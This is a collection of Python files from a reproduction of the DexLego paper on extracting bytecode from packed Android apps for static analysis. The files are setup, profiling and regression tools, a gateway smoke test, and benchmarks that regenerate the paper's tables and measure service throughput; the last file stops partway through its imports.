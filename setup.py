"""Setuptools shim.

The primary build configuration lives in ``pyproject.toml``; this file
exists so the package can be installed in environments whose setuptools
lacks PEP 660 editable-wheel support (no ``wheel`` package available).
"""

from setuptools import find_packages, setup

setup(
    name="repro",
    version="1.0.0",
    description=(
        "Reproduction of DexLego (DSN 2018): reassembleable bytecode "
        "extraction for aiding static analysis"
    ),
    package_dir={"": "src"},
    packages=find_packages(where="src"),
    python_requires=">=3.10",
    entry_points={
        "console_scripts": ["dexlego-repro = repro.harness.runner:main"],
    },
)
