"""Compare a bench-smoke timing JSON against the committed baseline.

Exit non-zero when the current total duration regresses more than the
threshold (default 25%) over the baseline — the CI bench-smoke job runs
this after the benchmarks so a perf regression fails the build instead
of silently accruing::

    python tools/check_bench_regression.py \\
        bench-smoke-timings.json current-timings.json --threshold 0.25

Per-test deltas are printed for diagnosis but only the total gates:
individual experiments are too small/noisy on shared CI runners.
"""

from __future__ import annotations

import argparse
import json
import sys


def load(path: str) -> dict:
    with open(path, encoding="utf-8") as fh:
        return json.load(fh)


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("baseline", help="committed timing JSON")
    parser.add_argument("current", help="freshly measured timing JSON")
    parser.add_argument(
        "--threshold", type=float, default=0.25,
        help="allowed fractional regression of total duration (default 0.25)",
    )
    args = parser.parse_args(argv)

    baseline = load(args.baseline)
    current = load(args.current)

    if current.get("exitstatus", 1) != 0:
        print("current bench run did not exit cleanly; failing", file=sys.stderr)
        return 1

    base_by_test = {t["test"]: t["duration_s"] for t in baseline["timings"]}
    rows = []
    for timing in current["timings"]:
        test = timing["test"]
        base = base_by_test.get(test)
        delta = (
            f"{(timing['duration_s'] / base - 1) * 100:+6.1f}%"
            if base else "   new"
        )
        rows.append((test, base, timing["duration_s"], delta))
    width = max(len(t) for t, *_ in rows) if rows else 0
    print(f"{'benchmark':<{width}}  {'baseline':>9}  {'current':>9}  delta")
    for test, base, cur, delta in rows:
        base_text = f"{base:9.2f}" if base is not None else "        -"
        print(f"{test:<{width}}  {base_text}  {cur:9.2f}  {delta}")
    for test in sorted(set(base_by_test) - {t["test"] for t in current["timings"]}):
        print(f"{test:<{width}}  {base_by_test[test]:9.2f}  {'gone':>9}")

    base_total = baseline["total_duration_s"]
    cur_total = current["total_duration_s"]
    ratio = cur_total / base_total if base_total else float("inf")
    limit = 1.0 + args.threshold
    print(
        f"\ntotal: baseline {base_total:.2f}s -> current {cur_total:.2f}s "
        f"({(ratio - 1) * 100:+.1f}%, limit {args.threshold * 100:+.0f}%)"
    )
    if ratio > limit:
        print("REGRESSION: total bench-smoke duration over threshold",
              file=sys.stderr)
        return 1
    print("ok: within threshold")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
