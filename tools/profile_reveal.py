"""cProfile one full reveal and print the top cumulative-time functions.

Future perf PRs start from data, not vibes::

    make profile                 # default: first benchsuite F-Droid app
    PYTHONPATH=src python tools/profile_reveal.py --app <package> \\
        --top 30 --sort tottime --force-execution

The reveal runs the standard pipeline (collect -> reassemble -> verify)
over one benchsuite application on a fresh runtime, exactly the work a
service worker performs per app.
"""

from __future__ import annotations

import argparse
import cProfile
import pstats
import sys


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument(
        "--app", default=None,
        help="benchsuite F-Droid package to reveal (default: the first)",
    )
    parser.add_argument(
        "--top", type=int, default=20, help="rows to print (default 20)"
    )
    parser.add_argument(
        "--sort", default="cumulative",
        choices=["cumulative", "tottime", "ncalls"],
        help="pstats sort key (default cumulative)",
    )
    parser.add_argument(
        "--force-execution", action="store_true",
        help="profile with force execution enabled (slower, deeper)",
    )
    parser.add_argument(
        "--out", default=None,
        help="also dump raw pstats data to this path (for snakeviz etc.)",
    )
    args = parser.parse_args(argv)

    from repro.benchsuite import all_fdroid_apps
    from repro.core import RevealConfig, reveal_apk

    apps = all_fdroid_apps()
    if args.app is None:
        app = apps[0]
    else:
        matches = [a for a in apps if a.package == args.app]
        if not matches:
            known = ", ".join(a.package for a in apps)
            print(f"unknown app {args.app!r}; known: {known}", file=sys.stderr)
            return 2
        app = matches[0]

    config = RevealConfig(use_force_execution=args.force_execution)
    apk = app.apk

    profiler = cProfile.Profile()
    profiler.enable()
    result = reveal_apk(apk, config=config)
    profiler.disable()

    stats_snapshot = result.collector_stats
    print(f"revealed {app.package}: crashed={result.crashed} "
          f"methods={stats_snapshot.get('methods_executed')} "
          f"instructions={stats_snapshot.get('instructions_observed')}")
    stats = pstats.Stats(profiler)
    stats.sort_stats(args.sort).print_stats(args.top)
    if args.out:
        stats.dump_stats(args.out)
        print(f"raw profile written to {args.out}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
