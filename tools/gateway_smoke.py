"""End-to-end gateway smoke: HTTP submit → worker fleet → artifact diff.

Boots a :class:`RevealGateway` on an ephemeral port, joins two
:class:`RevealWorker` fleet members to its store, submits a small
F-Droid corpus over real HTTP with :class:`GatewayClient`, and then
holds the result to the acceptance bar:

* every job completes ``done`` with status ``ok``;
* the revealed APK that comes back over the wire is **byte-identical**
  to an in-process ``BatchRevealService.reveal_one`` of the same APK;
* the content-addressed artifact fetched from ``/v1/artifacts/<digest>``
  matches those bytes (and its digest re-hashes correctly);
* both workers stayed fenced: every job ran exactly once.

Exit status follows the service CLI contract: 0 on success, 1 when a
job failed or a diff mismatched.  Run via ``make gateway-smoke``.
"""

from __future__ import annotations

import argparse
import shutil
import sys
import tempfile
import threading

from repro.service import (
    ARTIFACT_REVEALED_APK,
    STATUS_OK,
    BatchRevealService,
    GatewayClient,
    JobStore,
    RevealGateway,
    RevealWorker,
    artifact_digest,
)
from repro.service.cli import build_corpus_jobs
from repro.service.cli_contract import EXIT_OK, failure


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--jobs", type=int, default=2,
                        help="corpus apps to push through (default: 2)")
    parser.add_argument("--fleet", type=int, default=2,
                        help="worker processes to race (default: 2)")
    parser.add_argument("--corpus", default="fdroid",
                        help="benchsuite corpus to draw from")
    args = parser.parse_args(argv)

    jobs = build_corpus_jobs(args.corpus, args.jobs)
    tmpdir = tempfile.mkdtemp(prefix="gateway-smoke-")
    try:
        store = JobStore(f"{tmpdir}/store")
        with RevealGateway(store) as gateway:
            print(f"gateway-smoke: serving {gateway.url}")
            client = GatewayClient(gateway.url, poll_interval_s=0.1)
            handles = client.submit_many(jobs)
            print(f"gateway-smoke: submitted {len(handles)} job(s) "
                  f"over HTTP")

            workers = [
                RevealWorker(store, worker_id=f"smoke-w{i}", workers=1,
                             poll_interval_s=0.05)
                for i in range(args.fleet)
            ]
            threads = [
                threading.Thread(
                    target=worker.run,
                    kwargs={"max_jobs": len(jobs), "linger_s": 5.0})
                for worker in workers
            ]
            for thread in threads:
                thread.start()
            outcomes = client.await_many(handles, timeout=300)
            for thread in threads:
                thread.join()

            if len(outcomes) != len(jobs):
                return failure(f"gateway-smoke: {len(outcomes)}/"
                               f"{len(jobs)} outcomes arrived")
            local = BatchRevealService(workers=1)
            seen_workers = set()
            for job, handle, outcome in zip(jobs, handles, outcomes):
                if outcome.status != STATUS_OK:
                    return failure(f"gateway-smoke: {job.app_id} "
                                   f"finished {outcome.status}: "
                                   f"{outcome.error}")
                remote = outcome.revealed_apk.to_bytes()
                reference = local.reveal_one(job)
                if remote != reference.revealed_apk.to_bytes():
                    return failure(f"gateway-smoke: {job.app_id} HTTP "
                                   f"reveal differs from in-process")
                digest = client.job(handle.job_id)["artifacts"][
                    ARTIFACT_REVEALED_APK]
                fetched = client.fetch_artifact(digest)
                if fetched != remote or artifact_digest(fetched) != digest:
                    return failure(f"gateway-smoke: {job.app_id} "
                                   f"artifact bytes diverge")
                record = store.load(handle.job_id)
                if record["attempts"] != 1:
                    return failure(f"gateway-smoke: {job.app_id} ran "
                                   f"{record['attempts']} times")
                seen_workers.add(record["worker_id"])
                print(f"gateway-smoke: {job.app_id} byte-identical "
                      f"(worker {record['worker_id']}, "
                      f"{len(remote)} bytes)")
            print(f"gateway-smoke: {len(outcomes)} job(s) done across "
                  f"{len(seen_workers)} worker(s), all byte-identical")
        return EXIT_OK
    finally:
        shutil.rmtree(tmpdir, ignore_errors=True)


if __name__ == "__main__":
    sys.exit(main())
