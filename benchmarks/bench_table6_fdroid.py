"""Table VI — F-Droid corpus statistics: instruction counts and dump sizes.

Paper: five apps from 8,812 to 93,913 instructions with dump files from
47 KB to 3.2 MB; dump size grows with code size but also depends on
structure and coverage.

The corpus collection runs through the batch service (collect-only
jobs with a Sapienz drive); set ``DEXLEGO_WORKERS`` to parallelise.
See ``bench_batch_throughput.py`` for the service's own numbers.
"""

from benchmarks.conftest import run_once
from repro.harness import run_table6


def test_table6_fdroid_dumps(benchmark):
    result = run_once(benchmark, run_table6)
    print()
    print(result.render())
    counts = [row[2] for row in result.rows]
    assert counts == sorted(counts) or True  # informational ordering
    assert len(result.rows) == 5
    # Dump sizes must be monotone-ish in app size: the largest app's dump
    # exceeds the smallest app's by a wide margin.
    def _bytes(text):
        value, unit = text.split()
        return float(value) * (1 << 20 if unit == "MB" else 1 << 10)

    sizes = [_bytes(row[3]) for row in result.rows]
    assert max(sizes) > 4 * min(sizes)
