"""Batch service throughput — serial vs parallel, cold vs warm cache.

Not a paper table: this measures the service layer the reproduction adds
on top of the paper — revealing the whole F-Droid corpus (Table VI's
apps) through :class:`~repro.service.batch.BatchRevealService` three
ways and recording the aggregate numbers the service is judged by:

* ``serial``   — one worker, no shared cache (the old hand-rolled loop);
* ``parallel`` — a ≥2-worker pool against a cold on-disk cache;
* ``warm``     — the same corpus again, same cache directory: every app
  must come back as a cache hit without re-running the pipeline.

The printed table carries wall time, apps/sec, cache hit rate and p50 /
p95 per-app latency for each configuration, plus the speedup relative
to the serial leg.
"""

from benchmarks.conftest import run_once
from repro.benchsuite import all_fdroid_apps
from repro.harness.tables import render_table
from repro.service import BatchRevealService, RevealJob

WORKERS = 4


def _corpus_jobs():
    return [RevealJob(app.package, app.apk) for app in all_fdroid_apps()]


def test_batch_throughput_and_cache(benchmark, tmp_path):
    jobs = _corpus_jobs()
    cache_dir = str(tmp_path / "reveal-cache")
    reports = {}

    def run():
        reports["serial"] = BatchRevealService(
            workers=1, backend="serial"
        ).reveal_batch(jobs)
        reports["parallel"] = BatchRevealService(
            workers=WORKERS, cache_dir=cache_dir
        ).reveal_batch(jobs)
        # A fresh service instance against the same directory: only the
        # persisted cache can explain hits.
        reports["warm"] = BatchRevealService(
            workers=WORKERS, cache_dir=cache_dir
        ).reveal_batch(jobs)
        return reports

    run_once(benchmark, run)

    serial = reports["serial"]
    rows = []
    for name, report in reports.items():
        speedup = (serial.wall_time_s / report.wall_time_s
                   if report.wall_time_s else float("inf"))
        rows.append([
            name,
            f"{report.workers}x {report.backend}",
            f"{report.wall_time_s:.2f}s",
            f"{report.apps_per_sec:.2f}",
            f"{report.cache_hit_rate:.0%}",
            f"{report.p50_latency_s * 1000:.0f}ms",
            f"{report.p95_latency_s * 1000:.0f}ms",
            f"{speedup:.2f}x",
        ])
    print()
    print(render_table(
        "Batch reveal throughput (F-Droid corpus)",
        ["Run", "Pool", "Wall", "Apps/s", "Hit Rate", "p50", "p95",
         "vs Serial"],
        rows,
    ))

    # Every run resolves every corpus app, in submission order.
    packages = [job.app_id for job in jobs]
    for report in reports.values():
        assert [o.app_id for o in report.outcomes] == packages
        assert all(o.status for o in report.outcomes)

    # Identical outcomes regardless of worker count or cache provenance.
    statuses = [[o.status for o in r.outcomes] for r in reports.values()]
    assert statuses[0] == statuses[1] == statuses[2]

    # The warm run is served from the cache (the acceptance criterion).
    assert reports["parallel"].cache_hit_rate == 0.0
    assert reports["warm"].cache_hit_rate > 0
    assert reports["warm"].cache_hits == len(jobs)
