"""Table II — static tools on original vs DexLego-revealed DroidBench.

Paper shape: TP ordering FlowDroid < DroidSafe < HornDroid; DexLego adds
8+ true positives and removes 5+ false positives for every tool.
"""

from benchmarks.conftest import run_once
from repro.harness import run_table2


def test_table2_static_tools(benchmark):
    result = run_once(benchmark, run_table2)
    print()
    print(result.render())
    original = result.extras["original"]
    dexlego = result.extras["dexlego"]
    assert original["FlowDroid"].tp < original["HornDroid"].tp
    for tool in ("FlowDroid", "DroidSafe", "HornDroid"):
        assert dexlego[tool].tp >= original[tool].tp + 8
        assert original[tool].fp - dexlego[tool].fp >= 5
