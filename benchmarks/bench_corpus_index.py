"""Corpus index — cold vs warm cross-app dedup.

Not a paper table: this measures the corpus-scale similarity index the
reproduction adds on top of the paper.  A generated corpus of apps
sharing ~80% of their methods (`repro.benchsuite.shared_corpus`) is
revealed three ways:

* ``no-index`` — the plain pipeline, every body reassembled;
* ``cold``     — a fresh :class:`CorpusIndex`: apps 2..N already replay
  the library bodies app 1 registered (intra-batch dedup);
* ``warm``     — a *second wave* of different apps (new packages, new
  unique code) against the now-populated index: only app-private code
  should still need reassembly.

The printed table carries wall time, apps/sec and the replay split per
leg.  The acceptance bar — the warm leg replays ≥50% of bodies — is
asserted here and, byte-identity included, in
``tests/index/test_index_pipeline.py``.
"""

from benchmarks.conftest import quick_mode, run_once
from repro.benchsuite.shared_corpus import build_shared_corpus
from repro.harness.tables import render_table
from repro.service import BatchRevealService, RevealJob

APPS = 12 if quick_mode() else 50


def _jobs(apps):
    return [RevealJob(app.package, app.apk) for app in apps]


def test_corpus_index_cold_vs_warm(benchmark, tmp_path):
    index_dir = str(tmp_path / "corpus-index")
    cold_apps = build_shared_corpus(APPS)
    warm_apps = build_shared_corpus(APPS, package_prefix="org.warm")
    assert cold_apps[0].shared_fraction >= 0.7
    reports = {}

    def run():
        reports["no-index"] = BatchRevealService(
            workers=1).reveal_batch(_jobs(cold_apps))
        reports["cold"] = BatchRevealService(
            index_dir=index_dir, workers=1).reveal_batch(_jobs(cold_apps))
        # A fresh service against the same directory and a second wave
        # of *new* apps: only the persisted index can explain replays.
        reports["warm"] = BatchRevealService(
            index_dir=index_dir, workers=1).reveal_batch(_jobs(warm_apps))
        return reports

    run_once(benchmark, run)

    rows = []
    rates = {}
    for name, report in reports.items():
        summary = report.index_summary()
        replayed = summary.get("bodies_replayed", 0)
        emitted = summary.get("bodies_emitted", 0)
        total = replayed + emitted
        rates[name] = replayed / total if total else 0.0
        rows.append([
            name,
            f"{report.wall_time_s:.2f}s",
            f"{report.apps_per_sec:.2f}",
            str(replayed),
            str(emitted),
            f"{rates[name]:.0%}" if total else "—",
        ])
    print()
    print(render_table(
        f"Corpus index dedup ({APPS} apps, "
        f"{cold_apps[0].shared_fraction:.0%} shared methods)",
        ["Run", "Wall", "Apps/s", "Replayed", "Emitted", "Replay rate"],
        rows,
    ))

    for name, report in reports.items():
        assert report.ok_count == APPS, (name, report.summary())

    # The plain pipeline never replays; the cold leg dedups within the
    # batch; the warm leg clears the ≥50% acceptance bar and beats cold.
    assert reports["no-index"].index_summary() == {}
    assert rates["cold"] > 0.0
    assert rates["warm"] >= 0.5, rates
    assert rates["warm"] > rates["cold"]
