"""Table III — packed samples: DexHunter / AppSpear vs DexLego.

Paper shape: the dump-based unpackers recover the original DEX (plus the
dynamically loaded samples), but cannot reveal self-modifying code or
reflection; DexLego adds 5+ TPs and removes 5+ FPs relative to them.
"""

from benchmarks.conftest import run_once
from repro.harness import run_table3


def test_table3_packed_samples(benchmark):
    result = run_once(benchmark, run_table3)
    print()
    print(result.render())
    dexhunter = result.extras["dexhunter"]
    appspear = result.extras["appspear"]
    dexlego = result.extras["dexlego"]
    for tool in ("FlowDroid", "DroidSafe", "HornDroid"):
        assert dexlego[tool].tp - dexhunter[tool].tp >= 5
        assert dexhunter[tool].fp - dexlego[tool].fp >= 5
        # DexHunter and AppSpear behave alike on this corpus.
        assert abs(dexhunter[tool].tp - appspear[tool].tp) <= 1
