"""Benchmark configuration.

Each ``bench_*`` file regenerates one table or figure of the paper and
prints it.  Experiments run once per benchmark round (they are whole
experiments, not micro-benchmarks); pytest-benchmark reports their
wall-clock cost while the printed tables carry the scientific payload.

Run with::

    pytest benchmarks/ --benchmark-only
"""

import os
import sys

_SRC = os.path.join(os.path.dirname(os.path.dirname(__file__)), "src")
if _SRC not in sys.path:
    sys.path.insert(0, _SRC)


def run_once(benchmark, fn, *args, **kwargs):
    """Run an experiment exactly once under the benchmark timer."""
    result_box = {}

    def call():
        result_box["result"] = fn(*args, **kwargs)
        return result_box["result"]

    benchmark.pedantic(call, rounds=1, iterations=1)
    return result_box["result"]
