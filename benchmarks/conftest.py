"""Benchmark configuration.

Each ``bench_*`` file regenerates one table or figure of the paper and
prints it.  Experiments run once per benchmark round (they are whole
experiments, not micro-benchmarks); pytest-benchmark reports their
wall-clock cost while the printed tables carry the scientific payload.

Run with::

    pytest benchmarks/ --benchmark-only

CI's bench-smoke lane runs the same files with ``--benchmark-disable``
(each experiment executes once, untimed by pytest-benchmark) purely to
catch collection and execution errors.  Because pytest-benchmark emits
an empty JSON in that mode, this conftest writes its own per-test
timing JSON to the path named by ``$BENCH_TIMINGS_JSON`` — the
artifact the workflow uploads.
"""

import json
import os
import sys

_SRC = os.path.join(os.path.dirname(os.path.dirname(__file__)), "src")
if _SRC not in sys.path:
    sys.path.insert(0, _SRC)

_TIMINGS: list[dict] = []


def quick_mode() -> bool:
    """True in the bench-smoke lane (``DEXLEGO_BENCH_QUICK=1``): heavy
    experiments trim their corpora so the lane finishes in minutes."""
    return bool(os.environ.get("DEXLEGO_BENCH_QUICK"))


def pytest_runtest_logreport(report):
    if report.when == "call":
        _TIMINGS.append({
            "test": report.nodeid,
            "outcome": report.outcome,
            "duration_s": round(report.duration, 6),
        })


def pytest_sessionfinish(session, exitstatus):
    out = os.environ.get("BENCH_TIMINGS_JSON")
    if not out:
        return
    payload = {
        "exitstatus": int(exitstatus),
        "total_duration_s": round(sum(t["duration_s"] for t in _TIMINGS), 6),
        "timings": sorted(_TIMINGS, key=lambda t: -t["duration_s"]),
    }
    with open(out, "w", encoding="utf-8") as fh:
        json.dump(payload, fh, indent=2)


def run_once(benchmark, fn, *args, **kwargs):
    """Run an experiment exactly once under the benchmark timer."""
    result_box = {}

    def call():
        result_box["result"] = fn(*args, **kwargs)
        return result_box["result"]

    benchmark.pedantic(call, rounds=1, iterations=1)
    return result_box["result"]
