"""Table V — packed real-world app analogues.

Paper shape: FlowDroid finds zero flows in every packed original; the
revealed APKs expose 2-14 flows each (IMEI in all nine, location and
SSID in several).

The nine packed apps are revealed as one batch through the service
layer; set ``DEXLEGO_WORKERS`` to parallelise the reveal phase.
"""

from benchmarks.conftest import run_once
from repro.benchsuite import MARKET_APP_SPECS
from repro.harness import run_table5


def test_table5_market_apps(benchmark):
    result = run_once(benchmark, run_table5)
    print()
    print(result.render())
    expected = {spec[0]: spec[4] for spec in MARKET_APP_SPECS}
    for package, _version, _set, _installs, original, revealed in result.rows:
        assert original == 0
        assert revealed == expected[package], (package, revealed)
