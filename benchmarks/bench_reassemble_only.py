"""Reassemble-stage throughput over saved collection archives.

Not a paper table: this measures the offline half of the staged
pipeline on its own.  The separability redesign makes "re-run
reassembly over saved archives" a first-class workload (a reassembler
fix, a new downstream consumer, a resumed batch) — so its throughput
is a perf trajectory number of its own, independent of drive cost.

The benchmark collects the F-Droid corpus once (outside the timer),
saves every archive to disk, then measures two passes of
:func:`~repro.core.pipeline.reveal_from_archive` over all of them:

* ``cold``   — first offline pass, straight off the saved archives;
* ``re-run`` — the same archives again (steady state: warmed
  interpreter internals, no collection, no cache — reassembly is
  deliberately uncached because it *is* the thing being re-run).

Both passes must produce byte-identical, verifier-clean DEX files.
"""

import time

from benchmarks.conftest import run_once
from repro.benchsuite import all_fdroid_apps
from repro.core import CollectStage, reveal_from_archive
from repro.dex import write_dex
from repro.harness.tables import human_size, render_table


def _saved_archives(tmp_path):
    """Collect the corpus once and persist each archive (untimed)."""
    archives = []
    for app in all_fdroid_apps():
        target = str(tmp_path / app.package)
        collected = CollectStage().run(app.apk)
        collected.archive.save(target)
        archives.append((app.package, target,
                         collected.archive.total_size_bytes()))
    return archives


def _reassemble_pass(archives):
    started = time.perf_counter()
    payloads = {}
    stage_seconds = 0.0
    for package, target, _size in archives:
        result = reveal_from_archive(target)
        payloads[package] = write_dex(result.reassembled_dex)
        stage_seconds += result.stage_timings["reassemble"]
    return {
        "wall_s": time.perf_counter() - started,
        "reassemble_s": stage_seconds,
        "payloads": payloads,
    }


def test_reassemble_only_throughput(benchmark, tmp_path):
    archives = _saved_archives(tmp_path)
    passes = {}

    def run():
        passes["cold"] = _reassemble_pass(archives)
        passes["re-run"] = _reassemble_pass(archives)
        return passes

    run_once(benchmark, run)

    total_archive_bytes = sum(size for _p, _t, size in archives)
    rows = []
    for name, data in passes.items():
        apps_per_sec = (len(archives) / data["wall_s"]
                        if data["wall_s"] else float("inf"))
        rows.append([
            name,
            len(archives),
            human_size(total_archive_bytes),
            f"{data['wall_s']:.2f}s",
            f"{data['reassemble_s']:.2f}s",
            f"{apps_per_sec:.2f}",
        ])
    print()
    print(render_table(
        "Reassemble-only throughput (F-Droid archives)",
        ["Pass", "Apps", "Archive Bytes", "Wall", "Reassemble Stage",
         "Apps/s"],
        rows,
    ))

    # Offline reassembly is deterministic: both passes emit identical DEX.
    assert passes["cold"]["payloads"] == passes["re-run"]["payloads"]
    assert len(passes["cold"]["payloads"]) == len(archives)
