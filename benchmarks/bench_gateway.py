"""Gateway + worker-fleet throughput — the HTTP path priced.

Not a paper table: this measures the fleet front end the reproduction
adds on top of the job store.  One F-Droid corpus goes through three
shapes:

* ``in-process`` — ``BatchRevealService`` in this process, the
  reference cost with no wire and no store journal;
* ``fleet-1``    — HTTP submit through a :class:`RevealGateway`,
  drained by one :class:`RevealWorker`, pricing the store journal,
  the lease protocol and the HTTP round trips;
* ``fleet-2``    — the same corpus raced by two workers, showing the
  lease-claim fan-out actually parallelises.

The assertions pin the fleet semantics — every job lands ``done``,
exactly once, and the fleet outcome bytes match the in-process reveal
— so a correctness regression breaks the build before a perf one.
"""

import threading
import time

from benchmarks.conftest import quick_mode, run_once
from repro.benchsuite import all_fdroid_apps
from repro.harness.tables import render_table
from repro.service import (
    STATUS_OK,
    BatchRevealService,
    GatewayClient,
    JobStore,
    RevealGateway,
    RevealJob,
    RevealWorker,
)


def _corpus_jobs():
    apps = all_fdroid_apps()
    if quick_mode():
        apps = apps[:2]
    return [RevealJob(app.package, app.apk) for app in apps]


def _run_fleet(jobs, fleet, tmp_root):
    store = JobStore(f"{tmp_root}/store-{fleet}")
    started = time.perf_counter()
    with RevealGateway(store) as gateway:
        client = GatewayClient(gateway.url, poll_interval_s=0.05)
        handles = client.submit_many(jobs)
        workers = [
            RevealWorker(store, worker_id=f"bench-w{i}", workers=1,
                         poll_interval_s=0.05)
            for i in range(fleet)
        ]
        threads = [
            threading.Thread(target=w.run,
                             kwargs={"max_jobs": len(jobs),
                                     "linger_s": 5.0})
            for w in workers
        ]
        for t in threads:
            t.start()
        outcomes = client.await_many(handles, timeout=600)
        # Wall stops when the last outcome lands; the join only waits
        # out the workers' idle linger.
        wall = time.perf_counter() - started
        for t in threads:
            t.join()
        assert len(outcomes) == len(jobs)
        assert all(o.status == STATUS_OK for o in outcomes)
        records = [store.load(h.job_id) for h in handles]
        assert all(r["attempts"] == 1 for r in records)
        return wall, outcomes, len({r["worker_id"] for r in records})


def test_gateway_fleet_throughput(benchmark, tmp_path):
    jobs = _corpus_jobs()
    results = {}

    def run():
        started = time.perf_counter()
        reference = BatchRevealService(workers=1).reveal_batch(jobs)
        results["in-process"] = {
            "wall_s": time.perf_counter() - started,
            "workers": 1,
            "note": f"{reference.total} ok={reference.ok_count}",
        }
        reference_bytes = {
            o.app_id: o.revealed_apk.to_bytes()
            for o in reference.outcomes
        }

        for fleet in (1, 2):
            wall, outcomes, distinct = _run_fleet(
                jobs, fleet, str(tmp_path))
            for outcome in outcomes:
                assert (outcome.revealed_apk.to_bytes()
                        == reference_bytes[outcome.app_id])
            results[f"fleet-{fleet}"] = {
                "wall_s": wall,
                "workers": distinct,
                "note": f"{len(outcomes)} ok, byte-identical, "
                        f"exactly-once",
            }
        return results

    run_once(benchmark, run)

    rows = [
        [name, f"{entry['wall_s']:.2f}s", str(entry["workers"]),
         entry["note"]]
        for name, entry in results.items()
    ]
    print()
    print(render_table(
        "Reveal gateway + fleet (F-Droid corpus)",
        ["Run", "Wall", "Workers", "Note"],
        rows,
    ))
