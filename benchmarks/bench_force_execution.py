"""Force-execution exploration — serial vs parallel, fifo vs rarity-first.

Not a paper table: this measures the exploration scheduler the
reproduction adds on top of §IV-E's iterative loop.  One benchsuite
F-Droid application (generated with the §V-D reachable / gated / dead
coverage structure) is explored four ways:

* ``serial fifo``      — ``bfs`` strategy, one replay at a time: the
  paper-shaped baseline (shallowest path files first, offer order);
* ``serial dfs``       — deepest-prefix-first, which front-loads
  branch-rich regions (visible in the mid-budget coverage column);
* ``serial rarity``    — least-observed branch sites first;
* ``parallel rarity``  — the same, replaying each wave across a
  4-thread pool on isolated runtimes.

Every leg reports replays executed, the *naive-equivalent* replay count
(replays + replays saved by decision-prefix dedup — what a dedup-free
FIFO explorer would have burned for the identical covered set, since
replaying an identical prefix reproduces an identical trace), final
covered branch sites, coverage half-way through the replay budget, and
wall time.  The dedup counter includes per-iteration re-proposals of
still-uncovered flips (a dedup-free loop would replay each of them),
so the savings grow with the iteration cap; it measures proposals
collapsed, not a delta against the previous engine's attempted-flip
filter.

Asserted invariants (all exploration is deterministic, so these are
exact, not statistical):

* every strategy converges to the same covered-UCB count;
* parallel rarity-first reaches the serial fifo baseline's covered-UCB
  count with fewer replays than the naive baseline spends (the dedup
  savings are the mechanism, and are reported per leg);
* the parallel leg reproduces the serial rarity leg bit-for-bit
  (identical exploration order), so worker count is throughput-only.
"""

import time

from benchmarks.conftest import run_once
from repro.benchsuite import all_fdroid_apps
from repro.core import ForceExecutionEngine
from repro.harness.tables import render_table

ITERATIONS = 3
WORKERS = 4

LEGS = (
    ("serial fifo", "bfs", 1),
    ("serial dfs", "dfs", 1),
    ("serial rarity", "rarity-first", 1),
    ("parallel rarity", "rarity-first", WORKERS),
)


def _explore(apk, strategy: str, workers: int):
    engine = ForceExecutionEngine(
        apk, max_iterations=ITERATIONS, strategy=strategy, workers=workers
    )
    started = time.perf_counter()
    report = engine.run()
    return report, time.perf_counter() - started


def test_exploration_strategies(benchmark):
    app = all_fdroid_apps()[0]
    results = {}

    def run():
        for name, strategy, workers in LEGS:
            results[name] = _explore(app.apk, strategy, workers)
        return results

    run_once(benchmark, run)

    baseline, baseline_wall = results["serial fifo"]
    naive_baseline_replays = baseline.paths_executed + baseline.paths_deduped
    rows = []
    for name, _strategy, workers in LEGS:
        report, wall = results[name]
        half = report.coverage_curve[
            min(len(report.coverage_curve) - 1, report.paths_executed // 2)
        ]
        rows.append([
            name,
            f"{workers}",
            report.paths_executed,
            report.paths_executed + report.paths_deduped,
            report.paths_deduped,
            half,
            report.fully_covered_sites,
            f"{wall:.2f}s",
            f"{baseline_wall / wall:.2f}x" if wall else "inf",
        ])
    print()
    print(render_table(
        f"Force-execution exploration — {app.package} "
        f"({ITERATIONS} iterations)",
        ["Leg", "Workers", "Replays", "Naive Replays", "Dedup Saved",
         "Covered@Half", "Covered", "Wall", "vs FIFO"],
        rows,
    ))
    print(f"naive serial baseline (fifo, no dedup): "
          f"{naive_baseline_replays} replays for "
          f"{baseline.fully_covered_sites} covered sites")

    # Every strategy converges to the same covered-UCB count.
    covered = {report.fully_covered_sites for report, _ in results.values()}
    assert covered == {baseline.fully_covered_sites}

    # Parallel rarity-first reaches the serial baseline's covered-UCB
    # count with fewer replays than the naive (dedup-free) serial
    # explorer spends — the reported dedup savings are the difference.
    par_report, _ = results["parallel rarity"]
    assert par_report.fully_covered_sites >= baseline.fully_covered_sites
    assert par_report.paths_executed < naive_baseline_replays
    assert par_report.paths_deduped > 0

    # Worker count is throughput-only: the parallel exploration is
    # bit-for-bit the serial one.
    serial_report, _ = results["serial rarity"]
    assert par_report.exploration_order == serial_report.exploration_order
    assert par_report.coverage_curve == serial_report.coverage_curve
