"""Force-execution exploration — serial vs parallel, fifo vs rarity-first.

Not a paper table: this measures the exploration scheduler the
reproduction adds on top of §IV-E's iterative loop.  One benchsuite
F-Droid application (generated with the §V-D reachable / gated / dead
coverage structure) is explored four ways:

* ``serial fifo``      — ``bfs`` strategy, one replay at a time: the
  paper-shaped baseline (shallowest path files first, offer order);
* ``serial dfs``       — deepest-prefix-first, which front-loads
  branch-rich regions (visible in the mid-budget coverage column);
* ``serial rarity``    — least-observed branch sites first;
* ``parallel rarity``  — the same, replaying each wave across a
  4-thread pool on isolated runtimes.

Every leg reports replays executed, the *naive-equivalent* replay count
(replays + replays saved by decision-prefix dedup — what a dedup-free
FIFO explorer would have burned for the identical covered set, since
replaying an identical prefix reproduces an identical trace), final
covered branch sites, coverage half-way through the replay budget, and
wall time.  The dedup counter includes per-iteration re-proposals of
still-uncovered flips (a dedup-free loop would replay each of them),
so the savings grow with the iteration cap; it measures proposals
collapsed, not a delta against the previous engine's attempted-flip
filter.

Asserted invariants (all exploration is deterministic, so these are
exact, not statistical):

* every strategy converges to the same covered-UCB count;
* parallel rarity-first reaches the serial fifo baseline's covered-UCB
  count with fewer replays than the naive baseline spends (the dedup
  savings are the mechanism, and are reported per leg);
* the parallel leg reproduces the serial rarity leg bit-for-bit
  (identical exploration order), so worker count is throughput-only.
"""

import os
import time

from benchmarks.conftest import quick_mode, run_once
from repro.benchsuite import all_fdroid_apps
from repro.core import ForceExecutionEngine
from repro.dex import assemble
from repro.dex.instructions import Instruction
